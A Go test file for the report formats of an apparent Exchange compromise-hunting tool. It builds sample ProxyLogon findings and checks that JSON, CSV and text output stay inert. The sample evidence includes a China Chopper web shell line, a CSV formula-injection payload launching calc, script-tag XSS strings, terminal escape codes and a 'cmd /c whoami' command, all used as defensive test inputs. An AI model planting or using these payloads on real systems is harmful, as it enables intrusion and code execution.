package report

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"
	"time"

	"github.com/exhunt/exhunt/finding"
	"github.com/exhunt/exhunt/internal/golden"
)

func sampleDoc() *finding.Document {
	t0 := time.Date(2021, 2, 27, 19, 53, 36, 865e6, time.UTC)
	adv := finding.Advisory{
		ID: "EXH-PL-04", Title: "ProxyLogon SSRF read the OAB virtual directory", Severity: finding.Critical,
		Stage: finding.StageWrite, Campaign: "ProxyLogon", CVEs: []string{"CVE-2021-26855", "CVE-2021-27065"},
		Techniques: []string{"T1190"}, References: []string{"Test-ProxyLogon TPL-01"},
	}
	scan := finding.Advisory{
		ID: "EXH-PL-07", Title: "Scanner probed the ProxyLogon SSRF against localhost", Severity: finding.Low,
		Stage: finding.StageRecon, Campaign: "ProxyLogon", CVEs: []string{"CVE-2021-26855"}, Techniques: []string{"T1595.002"},
	}
	return &finding.Document{
		SchemaVersion: finding.SchemaVersion,
		Tool:          finding.Tool{Name: "exhunt", Version: "test"},
		Started:       time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC),
		Finished:      time.Date(2026, 1, 1, 0, 0, 1, 0, time.UTC),
		Roots:         []string{"samples/compromised"},
		Hosts: []finding.HostSummary{{
			Host: "ex01", WorstStage: finding.StageWrite, WorstSeverity: finding.Critical, Findings: 4,
			Stages:     map[finding.Stage]int{finding.StageWrite: 2, finding.StageRecon: 1, finding.StageCleanup: 1},
			Severities: map[finding.Severity]int{finding.Critical: 1, finding.Low: 1, finding.High: 2},
			Builds: []finding.BuildSighting{{Build: "15.1.2106.2", Source: "httpproxy", Count: 900, First: t0.Add(-time.Hour), Last: t0.Add(time.Hour),
				Evidence: finding.Evidence{Path: "D/Logging/HttpProxy/Owa/HttpProxy_2021022719-1.LOG", Line: 5, Source: "httpproxy", Excerpt: "MajorVersion=15 MinorVersion=1 BuildVersion=2106 RevisionVersion=2"}}},
			Verdict: sampleVerdict(t0),
		}},
		Inventory: []finding.Inventory{{Host: "ex01", Family: "httpproxy", Title: "Exchange HttpProxy logs", Files: 3, Bytes: 123456, Records: 900, First: t0.Add(-time.Hour), Last: t0.Add(time.Hour)}},
		Findings: []finding.Finding{
			{Advisory: scan, Time: t0.Add(-time.Minute), Host: "ex01", Evidence: finding.Evidence{Path: "D/Logging/HttpProxy/Owa/HttpProxy_2021022719-1.LOG", Line: 6, Source: "httpproxy", Excerpt: "2021-02-27T19:52:36Z,...,ServerInfo~localhost/ecp/default.flt?", Fields: map[string]string{"client_ip": "198.51.100.7"}}},
			{Advisory: adv, Time: t0, Host: "ex01", Evidence: finding.Evidence{Path: "D/Logging/HttpProxy/Ecp/HttpProxy_2021022719-1.LOG", Line: 12, Source: "httpproxy", Excerpt: "=cmd|' /C calc'!A0 \x1b[31mred", Fields: map[string]string{"client_ip": "167.99.168.251", "user_agent": "python-requests/2.25.1", "anchor_mailbox": "ServerInfo~a]@ex01:444/ecp/DDI/DDIService.svc/GetObject?schema=OABVirtualDirectory#"}}},
			{Advisory: finding.Advisory{ID: "EXH-EV-23", Title: "Security event log cleared", Severity: finding.High, Stage: finding.StageCleanup, Techniques: []string{"T1070.001"}, Rule: "0c2d3c1b-5f5e-4d1e-9a52-1c7a1f4b8d01", RuleFile: "pack:rules/ev23_security_log_cleared.yml"},
				Time: t0.Add(time.Hour), Host: "ex01", Evidence: finding.Evidence{Path: "C/Windows/System32/winevt/Logs/Security.evtx", Record: 4711, Source: "evtx", Excerpt: "Channel=Security Provider=Microsoft-Windows-Eventlog EventID=1102 Computer=EX01.contoso.com SubjectUserName=EX01$", Fields: map[string]string{"channel": "Security", "event_id": "1102"}}},
			{Advisory: finding.Advisory{ID: "EXH-YARA-01", Title: "China Chopper-style page: JScript eval of request input", Severity: finding.High, Stage: finding.StageWrite, Techniques: []string{"T1505.003"}, Rule: "pack:EXH_Chopper_JScript_Eval", RuleFile: "pack:rules/chopper.yar"},
				Host: "ex01", Evidence: finding.Evidence{Path: "D/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth/OutlookJP.aspx", Source: "file", SHA256: "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08", Size: 812, ModTime: t0, Excerpt: `<%eval(Request.Item["klk7890"],"unsafe");%>`, Fields: map[string]string{"place": "owa_auth"}}},
		},
		Errors: []finding.FileError{{Path: "C/inetpub/logs/LogFiles/W3SVC1/u_ex210227.log", Message: "not a text log (binary content)"}},
	}
}

// sampleVerdict is a hand-made assessment for the format tests (the model
// that makes real ones is tested in package assess). Its excerpts carry
// markup and escapes so that every format shows it is inert.
func sampleVerdict(t0 time.Time) *finding.Verdict {
	day := func(s string) time.Time { t, _ := time.Parse("2006-01-02", s); return t }
	ev := finding.Evidence{Path: "D/Logging/HttpProxy/Ecp/HttpProxy_2021022719-1.LOG", Line: 12, Source: "httpproxy", Excerpt: "<script>alert(1)</script> ServerInfo~a]@ex01:444/ecp/DDI"}
	shell := finding.Evidence{Path: "D/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth/OutlookJP.aspx", Source: "file", SHA256: "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08", Size: 812}
	windows := func(status ...string) []finding.CampaignWindow {
		w := []finding.CampaignWindow{
			{Campaign: "ProxyLogon", Start: day("2021-01-06"), End: day("2021-04-30")},
			{Campaign: "ProxyShell", Start: day("2021-08-01"), End: day("2021-09-30")},
			{Campaign: "ProxyNotShell", Start: day("2022-09-01"), End: day("2022-11-30")},
			{Campaign: "OWASSRF", Start: day("2022-12-01"), End: day("2022-12-31")},
		}
		for i := range w {
			w[i].Status = status[i]
		}
		return w
	}
	return &finding.Verdict{
		State: finding.StateCompromised, Likelihood: finding.AlmostCertain, Score: 97,
		Summary: "Compromised: almost certain. A web shell was written through the ProxyLogon chain and then used.",
		Reasons: []finding.Reason{
			{Rule: "A-SSRF-CHAIN", Text: "the full ProxyLogon SSRF chain from 167.99.168.251 succeeded (OAB virtual directory written)", Weight: 60, Floor: 95, Findings: []string{"f00dfeed00000001"}, Evidence: []finding.Evidence{ev}},
			{Rule: "A-SHELL-DISK", Text: "a China Chopper page in owa/auth (OutlookJP.aspx)", Weight: 40, Floor: 80, Findings: []string{"f00dfeed00000003"}, Evidence: []finding.Evidence{shell}},
			{Rule: "C-SHORT-PROXYSHELL", Text: "no log covers the ProxyShell window (2021-08-01 to 2021-09-30): cannot rule out", Weight: 0},
		},
		Coverage: []finding.Coverage{{Family: "httpproxy", Title: "Exchange HttpProxy logs", Files: 3, First: t0.Add(-time.Hour), Last: t0.Add(time.Hour), Campaigns: windows("partial", "none", "none", "none")}},
		Warnings: []string{"the logs do not reach back to 2021-01-06: earlier ProxyLogon exploitation cannot be ruled out", "no log covers the ProxyShell, ProxyNotShell and OWASSRF windows: cannot rule out"},
		Exposure: &finding.Exposure{Build: "15.1.2106.2", Precision: "build", Product: "Exchange 2016", CU: "CU18", EOL: true,
			Sources: []finding.BuildSighting{{Build: "15.1.2106.2", Source: "httpproxy", Count: 900, Evidence: finding.Evidence{Path: "D/Logging/HttpProxy/Owa/HttpProxy_2021022719-1.LOG", Line: 5}}},
			Families: []finding.FamilyExposure{
				{Family: "ProxyLogon", Status: "vulnerable", Detail: "fixed by Mar21SU 15.1.2106.13 on this CU"},
				{Family: "ProxyShell", Status: "vulnerable", Detail: "fixed by May21SU 15.1.2106.15 on this CU"},
				{Family: "ProxyNotShell", Status: "vulnerable", Detail: "Exchange 2016 CU18 never received the Nov22SU fix: only an upgrade to a later CU fixes it"},
				{Family: "OWASSRF", Status: "vulnerable", Detail: "Exchange 2016 CU18 never received the Nov22SU fix: only an upgrade to a later CU fixes it"},
			}},
		Timeline: []finding.TimelineEntry{
			{Time: t0.Add(-time.Minute), Step: "scan", Title: "Scanner probed the ProxyLogon SSRF against localhost", Stage: finding.StageRecon, Severity: finding.Low, Techniques: []string{"T1595.002"}, SourceIPs: []string{"198.51.100.7"}, Count: 1, Findings: []string{"f00dfeed00000000"}, Evidence: finding.Evidence{Path: "D/Logging/HttpProxy/Owa/HttpProxy_2021022719-1.LOG", Line: 6}},
			{Time: t0, End: t0.Add(2 * time.Second), Step: "ssrf", Title: "ProxyLogon SSRF read the OAB virtual directory", Stage: finding.StageWrite, Severity: finding.Critical, Techniques: []string{"T1190"}, SourceIPs: []string{"167.99.168.251"}, UserAgents: []string{"python-requests/2.25.1"}, Count: 1, Findings: []string{"f00dfeed00000001"}, Evidence: ev},
			{Step: "shell-written", Title: "China Chopper-style page: JScript eval of request input", Stage: finding.StageWrite, Severity: finding.High, Techniques: []string{"T1505.003"}, Count: 1, Findings: []string{"f00dfeed00000003"}, Evidence: shell,
				Commands: []string{"cmd /c whoami\x1b[31m </code><script>alert(2)</script>"}},
		},
		Tradecraft: &finding.Tradecraft{Actor: "HAFNIUM", Likelihood: finding.RealisticPossibility, Score: 45,
			Matches: []finding.TradecraftMatch{{Kind: "ip", Item: "167.99.168.251", Source: "Microsoft/Volexity IOC list, March 2021", Findings: []string{"f00dfeed00000001"}}},
			Caveat:  "Technical overlap is not attribution: many groups used the same public exploits after 2021-03-02."},
	}
}

func TestGolden(t *testing.T) {
	for _, f := range Formats {
		t.Run(f.Name, func(t *testing.T) {
			var buf bytes.Buffer
			if err := f.Write(&buf, sampleDoc(), Options{Elapsed: "1s"}); err != nil {
				t.Fatal(err)
			}
			golden.Check(t, f.Name+".golden", buf.Bytes())
		})
	}
}

func TestJSONRequiredFields(t *testing.T) {
	var buf bytes.Buffer
	if err := JSONL(&buf, sampleDoc(), Options{}); err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSpace(buf.String()), "\n")
	if len(lines) != 4 {
		t.Fatalf("want 4 lines, got %d", len(lines))
	}
	for _, l := range lines {
		var m map[string]any
		if err := json.Unmarshal([]byte(l), &m); err != nil {
			t.Fatal(err)
		}
		for _, k := range []string{"id", "title", "severity", "cves", "techniques", "time", "host", "evidence", "stage", "fingerprint"} {
			if _, ok := m[k]; !ok {
				t.Errorf("finding lacks %q: %s", k, l)
			}
		}
		ev := m["evidence"].(map[string]any)
		for _, k := range []string{"path", "line", "excerpt"} {
			if _, ok := ev[k]; !ok {
				t.Errorf("evidence lacks %q", k)
			}
		}
		switch tm := m["time"].(type) {
		case string:
			if _, err := time.Parse(time.RFC3339, tm); err != nil {
				t.Errorf("time not RFC 3339: %v", err)
			}
		case nil:
			// Unknown time (file evidence): null, never year 1.
			if ev["source"] != "file" {
				t.Errorf("null time on %v evidence", ev["source"])
			}
		default:
			t.Errorf("time is %T", tm)
		}
	}
}

func TestCSVDefusesFormulas(t *testing.T) {
	var buf bytes.Buffer
	if err := CSV(&buf, sampleDoc(), Options{}); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 5 || len(rows[0]) != len(CSVHeader) {
		t.Fatalf("got %d rows", len(rows))
	}
	if ex := rows[2][14]; !strings.HasPrefix(ex, "'=") {
		t.Errorf("formula not defused: %q", ex)
	}
	if rec := rows[3][len(CSVHeader)-1]; rec != "4711" {
		t.Errorf("record column = %q, want 4711", rec)
	}
}

func TestTextNoControlCharacters(t *testing.T) {
	var buf bytes.Buffer
	if err := Text(&buf, sampleDoc(), Options{}); err != nil {
		t.Fatal(err)
	}
	if strings.ContainsRune(buf.String(), 0x1b) {
		t.Error("escape sequence from the evidence reached the terminal")
	}
	if !strings.Contains(buf.String(), "VERDICT  Compromised: almost certain") {
		t.Error("verdict missing")
	}
}

func TestVerdict(t *testing.T) {
	cases := []struct {
		h    finding.HostSummary
		want string
	}{
		{finding.HostSummary{}, "NOTHING FOUND"},
		{finding.HostSummary{Findings: 1, WorstStage: finding.StageNone, WorstSeverity: finding.Info}, "NOTHING ALARMING"},
		{finding.HostSummary{Findings: 1, WorstStage: finding.StageRecon, WorstSeverity: finding.Low}, "SCANNED"},
		{finding.HostSummary{Findings: 1, WorstStage: finding.StageAttempt, WorstSeverity: finding.Medium}, "EXPLOITATION ATTEMPTED"},
		{finding.HostSummary{Findings: 1, WorstStage: finding.StageExploit, WorstSeverity: finding.High}, "COMPROMISE"},
	}
	for _, c := range cases {
		if got := Verdict(c.h); !strings.HasPrefix(got, c.want) {
			t.Errorf("Verdict(%+v) = %q, want prefix %q", c.h, got, c.want)
		}
	}
}
